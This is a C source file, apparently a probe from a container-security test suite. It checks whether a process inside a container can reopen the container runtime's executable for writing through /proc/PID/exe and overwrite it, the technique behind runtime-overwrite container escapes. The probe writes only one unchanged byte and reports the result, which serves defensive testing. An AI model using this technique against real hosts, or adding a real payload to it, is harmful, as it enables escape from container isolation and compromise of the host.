// Can this process get a writable descriptor of the runtime that starts programs in the container? It is started under
// the name of the program that `exec` will run (#!/proc/self/exe makes the runtime execute itself) and here it plays the
// other half: look at every process that appears, and open its executable for writing once it has let go of it.
#include "probe.h"

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

// Writes the first byte of an executable over itself. A sealed copy in memory opens, but refuses exactly this.
static int write_through(int writable, const char* path) {
  char byte;
  int readable = open(path, O_RDONLY | O_CLOEXEC);
  int written = readable >= 0 && pread(readable, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1;
  close(readable);
  close(writable);
  return written;
}

// Returns 1 if an executable other than our own could be written.
static int attack(const char* pid, const struct stat* own) {
  char path[300];
  struct stat target;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return 0;
  int seen = !fstat(fd, &target) && (target.st_dev != own->st_dev || target.st_ino != own->st_ino);
  if (seen) printf("overwrite_runtime: saw a foreign executable in process %s\n", pid);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int attempt = 0; seen && attempt < 2000; attempt++) {
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    if (writable >= 0) {
      if (!write_through(writable, path)) break;
      printf("overwrite_runtime: process %s: ok\n", pid);
      return 1;
    }
    if (errno != ETXTBSY) break;
    usleep(500);
  }
  if (seen) printf("overwrite_runtime: %s\n", strerrorname_np(errno));
  close(fd);
  return 0;
}

int main(int argc, char** argv) {
  struct stat self;
  time_t end = time(0) + (argc > 1 ? atoi(argv[1]) : 3);
  stat("/proc/self/exe", &self);
  setvbuf(stdout, 0, _IOLBF, 0);
  puts("overwrite_runtime: watching");
  while (time(0) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; proc && (entry = readdir(proc));)
      if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
        if (attack(entry->d_name, &self)) return 0;
    if (proc) closedir(proc);
  }
  puts("overwrite_runtime: not writable");
  return 1;
}
